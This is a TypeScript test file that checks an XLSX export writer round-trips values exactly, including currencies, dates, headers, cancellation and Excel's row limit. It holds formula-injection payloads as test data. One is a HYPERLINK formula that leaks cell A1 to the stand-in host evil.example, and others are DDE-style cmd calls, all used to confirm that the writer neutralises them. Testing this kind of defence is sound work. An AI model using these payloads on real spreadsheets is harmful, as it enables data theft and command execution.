/**
 * XLSX round trip: write a workbook, read its XML back, and compare every value exactly:
 * hostile text and references (the simulator's --adversarial strings plus what XML cannot carry),
 * 0/2/3-decimal currencies, negative and over-precise amounts, dates and timestamps. Also the frozen
 * header, widths, the Notes column, no formula anywhere, progress, cancelling and the row limit.
 */
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ExportColumn, ExportTable } from '../../src/main/core/export/columns';
import { writeXlsx } from '../../src/main/core/export/xlsx';
import { EXCEL_MAX_DATA_ROWS } from '../../src/main/core/export/xlsx/write-sheet';
import {
  HOSTILE_FLOATS,
  HOSTILE_REFERENCES,
  HOSTILE_TEXTS,
  longText,
} from '../../src/simulator/data/adversarial';
import { makeTempDir } from '../helpers/temp-dir';
import { readXlsx, serialToDate, type ReadCell } from '../helpers/xlsx-read';

interface Row {
  reference: string;
  label: string;
  amount: string | null;
  currency: string;
  count: number | bigint | null;
  day: string | null;
  at: string | null;
  open: boolean | null;
}

const COLUMNS: ExportColumn<Row>[] = [
  { key: 'reference', header: 'Reference', kind: 'reference', value: (r) => r.reference },
  { key: 'label', header: 'Label', kind: 'text', value: (r) => r.label },
  { key: 'amount', header: 'Amount', kind: 'amount', value: (r) => r.amount, currency: (r) => r.currency },
  { key: 'count', header: 'Count', kind: 'integer', value: (r) => r.count },
  { key: 'day', header: 'Date', kind: 'date', value: (r) => r.day },
  { key: 'at', header: 'Created', kind: 'timestamp', value: (r) => r.at },
  { key: 'open', header: 'Open', kind: 'boolean', value: (r) => r.open },
];

const EXTRA_TEXTS = [
  'NUL \u0000 inside',
  'CR only\rhere',
  'controls \u0001\u0008\u000b\u001f\u007f\u0085',
  'replacement \ufffd and \uffff',
  'literal _x0041_ escape',
  '  leading and trailing spaces  ',
  'Ünïcödé — “quotes” ‘single’ … 日本語 한국어',
  '=1+1',
  '\u0000NUL-led',
  '000123',
  longText('Long brand name'),
];

/**
 * What each formula-like input must read back as, written out by hand (not computed by the code
 * under test): a leading `'` (OWASP). Every other input reads back unchanged.
 */
const NEUTRALISED: Readonly<Record<string, string>> = {
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for balance")':
    '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for balance")',
  "+SUM(1+1)*cmd|' /C calc'!A0": "'+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C notepad'!A0": "'-2+3+cmd|' /C notepad'!A0",
  '@SUM(A1:A9)': "'@SUM(A1:A9)",
  '\t=1+2 tab-led': "'\t=1+2 tab-led",
  '\r=1+2 carriage-return-led': "'\r=1+2 carriage-return-led",
  '=HYPERLINK("http://evil.example","Top up")': '\'=HYPERLINK("http://evil.example","Top up")',
  '+44 Rewards\t@SUM(A1:A3)': "'+44 Rewards\t@SUM(A1:A3)",
  '=1+1': "'=1+1",
  '\u0000NUL-led': "'\u0000NUL-led",
  '+SUM(A1:A2)': "'+SUM(A1:A2)",
  '-2+3': "'-2+3",
  '@SUM(A1)': "'@SUM(A1)",
  '\t=CMD()': "'\t=CMD()",
  '\r=1+1': "'\r=1+1",
};
const shown = (text: string): string => NEUTRALISED[text] ?? text;

const AMOUNTS: ReadonlyArray<[string, string]> = [
  ['2500.00', 'GBP'],
  ['-2500.00', 'GBP'],
  ['1500', 'JPY'],
  ['-7', 'JPY'],
  ['12.345', 'KWD'],
  ['-0.001', 'KWD'],
  ['0.00', 'EUR'],
  ['9999999999999.99', 'USD'],
  ['10.125', 'GBP'],
];

function rows(): Row[] {
  const texts = [...HOSTILE_TEXTS, ...HOSTILE_FLOATS.map((f) => f.name), ...EXTRA_TEXTS];
  const references = [...HOSTILE_REFERENCES, '000123', '12345678901234567890', '0', 'RF18539007547034'];
  const count = Math.max(texts.length, references.length, AMOUNTS.length);
  return Array.from({ length: count }, (_, i) => {
    const [amount, currency] = AMOUNTS[i % AMOUNTS.length]!;
    return {
      reference: references[i % references.length]!,
      label: texts[i % texts.length]!,
      amount,
      currency,
      count: i % 5 === 4 ? null : i * 1000,
      day: `2026-${String((i % 12) + 1).padStart(2, '0')}-${String((i % 28) + 1).padStart(2, '0')}`,
      at:
        i % 2 === 0
          ? `2026-10-${String((i % 28) + 1).padStart(2, '0')}T10:00:00+01:00`
          : `2026-03-01T23:59:59.123Z`,
      open: i % 3 === 0,
    };
  });
}

const table = (
  data: Iterable<Row>,
  title = 'Transfer requests',
  totalRows: number | null = null,
): ExportTable<Row> => ({
  title,
  columns: COLUMNS,
  rows: data,
  totalRows,
});

let temp: ReturnType<typeof makeTempDir>;
beforeEach(() => (temp = makeTempDir()));
afterEach(() => temp.cleanup());

function expectText(cell: ReadCell | null, text: string): void {
  expect(cell).toMatchObject({ type: 's', format: '@', formula: false });
  expect(cell!.value).toBe(shown(text));
}

describe('writeXlsx round trip', () => {
  it('has a hand-written expectation for every formula-like input', () => {
    const inputs = rows().flatMap((row) => [row.reference, row.label]);
    for (const text of inputs)
      if (['=', '+', '-', '@', '\t', '\r', '\u0000'].includes(text[0] ?? ''))
        expect(NEUTRALISED, JSON.stringify(text)).toHaveProperty([text]);
  });

  it('reads back every value exactly, typed as its kind', async () => {
    const data = rows();
    const path = join(temp.dir, 'out.xlsx');
    const progress: number[] = [];
    const result = await writeXlsx([table(data)], path, { onRows: (n) => progress.push(n) });
    expect(result.rows).toBe(data.length);
    expect(progress.at(-1)).toBe(data.length);

    const [sheet] = readXlsx(path);
    expect(sheet!.name).toBe('Transfer requests');
    expect(sheet!.frozenRows).toBe(1);
    expect(sheet!.rows[0]!.map((c) => c?.value)).toEqual([
      'Reference',
      'Label',
      'Amount',
      'Count',
      'Date',
      'Created (UTC)',
      'Created (as recorded)',
      'Open',
      'Notes',
    ]);
    expect(sheet!.rows[0]!.every((c) => c?.bold)).toBe(true);
    expect(sheet!.widths).toHaveLength(9);
    expect(sheet!.widths.every((w) => w >= 8 && w <= 80)).toBe(true);
    expect(sheet!.xml).not.toMatch(/<f[ >]/);

    data.forEach((row, i) => {
      const cells = sheet!.rows[i + 1]!;
      expectText(cells[0]!, row.reference);
      expectText(cells[1]!, row.label.slice(0, 32_767));
      expect(cells[2]).toMatchObject({ type: 'n', value: Number(row.amount), formula: false });
      const places = row.currency === 'JPY' ? 0 : row.currency === 'KWD' || row.amount === '10.125' ? 3 : 2;
      expect(cells[2]!.format).toBe(`#,##0${places ? `.${'0'.repeat(places)}` : ''} "${row.currency}"`);
      if (row.count === null) expect(cells[3]).toBeNull();
      else expect(cells[3]).toMatchObject({ type: 'n', value: Number(row.count) });
      expect(cells[4]).toMatchObject({ type: 'n', format: 'yyyy-mm-dd' });
      expect(
        serialToDate(cells[4]!.value as number)
          .toISOString()
          .slice(0, 10),
      ).toBe(row.day);
      expect(serialToDate(cells[5]!.value as number).getTime()).toBe(Date.parse(row.at!));
      expect(cells[5]!.format).toMatch(/^yyyy-mm-dd hh:mm:ss/);
      expectText(cells[6]!, row.at!);
      expect(cells[7]).toMatchObject({ type: 'b', value: row.open });
    });
  });

  it('writes amounts Excel would round as exact text and says so in a Notes column', async () => {
    const path = join(temp.dir, 'precise.xlsx');
    const base: Row = {
      reference: 'R1',
      label: 'x',
      amount: '1.00',
      currency: 'GBP',
      count: 1,
      day: null,
      at: null,
      open: null,
    };
    await writeXlsx(
      [
        table([
          base,
          { ...base, reference: 'R2', amount: '12345678901234567.89' },
          { ...base, reference: 'R3', amount: '-98765432109876543210' },
          { ...base, reference: 'R4', label: '=x'.repeat(20_000) },
        ]),
      ],
      path,
    );
    const [sheet] = readXlsx(path);
    const header = sheet!.rows[0]!.map((c) => c?.value);
    const notes = header.indexOf('Notes');
    expect(notes).toBe(header.length - 1);
    expect(sheet!.rows[1]![2]).toMatchObject({ type: 'n', value: 1 });
    expect(sheet!.rows[1]![notes] ?? null).toBeNull();
    expect(sheet!.rows[2]![2]).toMatchObject({ type: 's', value: '12345678901234567.89', format: '@' });
    expect(sheet!.rows[2]![notes]!.value).toContain(
      '12345678901234567.89 GBP has more than 15 significant digits',
    );
    expect(sheet!.rows[3]![2]).toMatchObject({ type: 's', value: "'-98765432109876543210" });
    const cut = sheet!.rows[4]![1]!.value as string;
    expect(cut).toHaveLength(32_767);
    expect(cut).toBe(`'${'=x'.repeat(20_000)}`.slice(0, 32_767));
    expect(sheet!.rows[4]![notes]!.value).toContain(
      "Label: 40,000 characters, cut at Excel's limit of 32,767",
    );
  });

  it('writes several sheets in order, with unique Excel-safe names', async () => {
    const path = join(temp.dir, 'many.xlsx');
    const result = await writeXlsx(
      [table(rows(), 'Summary'), table([], 'Open items'), table(rows(), 'Summary'), table([], 'A/B: [x]?')],
      path,
    );
    expect(readXlsx(path).map((s) => s.name)).toEqual(['Summary', 'Open items', 'Summary 2', 'A B   x']);
    expect(result.rows).toBe(rows().length * 2);
  });

  it('stops between chunks when cancelled, with progress so far', async () => {
    const controller = new AbortController();
    const progress: number[] = [];
    function* endless(): Generator<Row> {
      for (let i = 0; ; i++)
        yield {
          reference: `R${i}`,
          label: 'x',
          amount: '1.00',
          currency: 'GBP',
          count: i,
          day: null,
          at: null,
          open: null,
        };
    }
    const path = join(temp.dir, 'cancelled.xlsx');
    const run = writeXlsx([table(endless())], path, {
      signal: controller.signal,
      onRows: (n) => {
        progress.push(n);
        if (n >= 10_000) controller.abort();
      },
    });
    await expect(run).rejects.toMatchObject({ name: 'AbortError' });
    expect(progress).toEqual([5_000, 10_000]);
    expect(existsSync(path)).toBe(false);
  });

  it('refuses a sheet over Excel’s row limit, naming the table and suggesting CSV', async () => {
    const path = join(temp.dir, 'big.xlsx');
    await expect(
      writeXlsx([table([], 'Transfer requests', EXCEL_MAX_DATA_ROWS + 1)], path),
    ).rejects.toMatchObject({
      code: 'invalid_input',
      message: expect.stringMatching(/"Transfer requests" has more than 1,048,575 rows.*CSV/),
    });
    function* many(): Generator<Row> {
      const row: Row = {
        reference: 'R',
        label: 'x',
        amount: null,
        currency: 'GBP',
        count: null,
        day: null,
        at: null,
        open: null,
      };
      for (let i = 0; i <= EXCEL_MAX_DATA_ROWS; i++) yield row;
    }
    await expect(writeXlsx([table(many(), 'Brands')], path)).rejects.toMatchObject({
      message: expect.stringContaining('"Brands" has more than'),
    });
    expect(existsSync(path)).toBe(false);
  });
});
